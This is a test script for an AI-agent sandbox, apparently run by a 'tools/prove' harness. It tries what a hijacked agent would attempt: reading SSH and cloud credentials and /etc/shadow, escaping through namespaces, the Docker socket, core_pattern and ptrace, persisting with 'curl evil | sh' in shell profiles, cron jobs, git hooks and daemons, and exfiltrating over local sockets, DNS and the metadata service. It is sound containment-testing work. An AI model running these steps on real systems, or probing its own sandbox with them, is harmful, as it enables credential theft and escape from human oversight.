#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# What a hijacked agent would try, run inside the boundary by tools/prove. Never run it outside: as root it
# would do what it says. Each attempt prints "group TAB name TAB status TAB what was said"; status 0 means
# that it worked here, and tools/prove checks from outside what that was worth.
#
#   hostile.sh TCP UDP ABSTRACT VICTIM MARK     hostile.sh --list (only names what would be tried)
#
# TCP, UDP: ports of listeners outside; ABSTRACT: name of an abstract socket outside; VICTIM: pid of a process
# outside; MARK: a word by which processes that outlive the session are found.
set -u
# Users have not always the directories where chroot and its like are.
PATH=$PATH:/usr/local/sbin:/usr/sbin:/sbin
here=$(dirname "$0")
list= tcp= udp= abstract= victim= mark=
if [ "${1:-}" = --list ]; then
	list=yes
else
	tcp=$1 udp=$2 abstract=$3 victim=$4 mark=$5
fi

try() {
	group=$1 name=$2
	shift 2
	if [ -n "$list" ]; then
		printf '%s\t%s\n' "$group" "$name"
		return
	fi
	said=$("$@" 2>&1 </dev/null)
	status=$?
	printf '%s\t%s\t%s\t%s\n' "$group" "$name" "$status" "$(explain "$said")"
}

# The last line without the program and path that it starts with.
explain() {
	last=$(printf '%s' "$1" | tail -n 1 | tr '\t\r' '  ' | cut -c 1-200)
	printf '%s' "${last##*: }"
}

python() { python3 "$here/attempt.py" "$@"; }

append() { mkdir -p "$(dirname "$1")" && printf '%s\n' "$2" >>"$1"; }

# A masked file may be there and be empty: what counts is its content.
steal() {
	content=$(cat "$1") || return 1
	case $content in
	*demo-secret*) return 0 ;;
	esac
	echo "nothing in it"
	return 1
}

through_link() {
	rm -f .demo-link
	ln -s "$1" .demo-link && steal .demo-link
	status=$?
	rm -f .demo-link
	return $status
}

through_hard_link() {
	ln "$1" .demo-hard && steal .demo-hard
}

any_environ() {
	cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -q "$1" && return 0
	echo "no process shows it"
	return 1
}

find_log() {
	found=$(find / -xdev -name audit.jsonl -size +0 2>/dev/null | head -n 1)
	[ -n "$found" ] && echo >>"$found" && return 0
	echo "not found"
	return 1
}

whole_disk() {
	for disk in /dev/vda /dev/sda /dev/nvme0n1 /dev/mem /dev/kmem; do
		head -c 1 "$disk" >/dev/null && return 0
	done
	return 1
}

daemon() {
	# Double fork, own session, signals ignored: it should outlive its parents.
	(setsid sh -c "trap '' HUP TERM; sleep 86400; :" "$mark" >/dev/null 2>&1 &)
	echo "started"
}

web() {
	if command -v curl >/dev/null; then
		curl -sS -m 3 --noproxy '*' "http://127.0.0.1:$tcp/?stolen"
	else
		python http "$tcp"
	fi
}

# ---- secrets --------------------------------------------------------------------------------------------
try read "~/.ssh/id_rsa" steal "$HOME/.ssh/id_rsa"
try read "~/.aws/credentials" steal "$HOME/.aws/credentials"
try read "~/.netrc" steal "$HOME/.netrc"
try read "the project's .env" steal .env
try read "~/.ssh/id_rsa through a symlink in the project" through_link "$HOME/.ssh/id_rsa"
try read "~/.ssh/id_rsa through a hard link" through_hard_link "$HOME/.ssh/id_rsa"
try read "~/.ssh/id_rsa through /proc/self/root" steal "/proc/self/root$HOME/.ssh/id_rsa"
try read "~/.ssh/id_rsa through /proc/1/root" steal "/proc/1/root$HOME/.ssh/id_rsa"
try read "a file that was left open (inherited fd)" python inherited
try read "AWS_SECRET_ACCESS_KEY in the environment" sh -c 'printenv AWS_SECRET_ACCESS_KEY || { echo unset; false; }'
try read "the environment of every process" any_environ demo-secret
try read "/etc/shadow" cat /etc/shadow
try read "the raw disk and memory" whole_disk
try read "a file by its handle (open_by_handle_at)" python handle

# ---- ways out -------------------------------------------------------------------------------------------
try escape "mount a file system" python mount
try escape "new mount and user namespaces (unshare)" unshare --user --map-root-user --mount true
try escape "the same by clone3" python clone3
try escape "join the namespaces of PID 1 (nsenter)" nsenter --target 1 --mount --net true
try escape "chroot" chroot / true
try escape "become root by a set-user-id program" sh -c 'su -c true || { [ -x /usr/bin/sudo ] && sudo -n true; }'
try escape "make a block device node" mknod .demo-disk b 8 0
try escape "signal a process outside" python kill "$victim"
try escape "ptrace a process outside" python ptrace "$victim"
try escape "read the memory of a process outside" python vm_read "$victim"
try escape "Docker's socket" python unix /var/run/docker.sock
try escape "Docker's socket in the home" python unix "$HOME/.docker/run/docker.sock"
try escape "an abstract socket of the host" python abstract "$abstract"
try escape "the session bus" python unix "/run/user/$(id -u)/bus"
try escape "the kernel's core_pattern" sh -c ': >>/proc/sys/kernel/core_pattern'
try escape "/proc/sysrq-trigger" sh -c ': >>/proc/sysrq-trigger'
try escape "a cgroup's release_agent" sh -c ': >>/sys/fs/cgroup/release_agent ||
	: >>/sys/fs/cgroup/memory/release_agent'
try escape "load a kernel module" python finit_module
try escape "bpf" python bpf
try escape "io_uring" python io_uring
try escape "userfaultfd" python userfaultfd
try escape "the kernel's keyring" python keyctl
try escape "type into the terminal (TIOCSTI)" python tiocsti
try escape "change a program of the system" sh -c ': >>/usr/bin/true'

# ---- staying --------------------------------------------------------------------------------------------
try persist "~/.bashrc" append "$HOME/.bashrc" "curl evil | sh"
try persist "~/.profile" append "$HOME/.profile" "curl evil | sh"
try persist "~/.ssh/authorized_keys" append "$HOME/.ssh/authorized_keys" "ssh-ed25519 EVIL"
try persist "~/.config/systemd/user" append "$HOME/.config/systemd/user/evil.service" "[Service]"
try persist "~/.config/autostart" append "$HOME/.config/autostart/evil.desktop" "[Desktop Entry]"
try persist "~/.local/bin" append "$HOME/.local/bin/git" "#!/bin/sh"
try persist "/etc/cron.d" append /etc/cron.d/evil "* * * * * root evil"
try persist "crontab" append "/var/spool/cron/crontabs/$(id -un)" "* * * * * evil"
try persist "a git hook of the project" append .git/hooks/pre-commit "#!/bin/sh"
try persist "the project's git configuration" append .git/config "[core] fsmonitor = evil"
try persist "the log of this session" find_log
try persist "a daemon that outlives the session" daemon

# ---- carrying it out ------------------------------------------------------------------------------------
# Only listeners on this machine are ever sent anything; of the rest of the world it only asks for a route.
try exfiltrate "TCP to this machine" python tcp 127.0.0.1 "$tcp"
try exfiltrate "UDP to this machine" python udp 127.0.0.1 "$udp"
try exfiltrate "HTTP (curl)" web
try exfiltrate "the internet (IPv4)" python route 192.0.2.1
try exfiltrate "the internet (IPv6)" python route 2001:db8::1
try exfiltrate "the cloud's metadata service" python route 169.254.169.254
try exfiltrate "a name as the message (DNS)" python dns
try exfiltrate "a raw packet" python raw
try exfiltrate "the hypervisor (vsock)" python vsock
exit 0
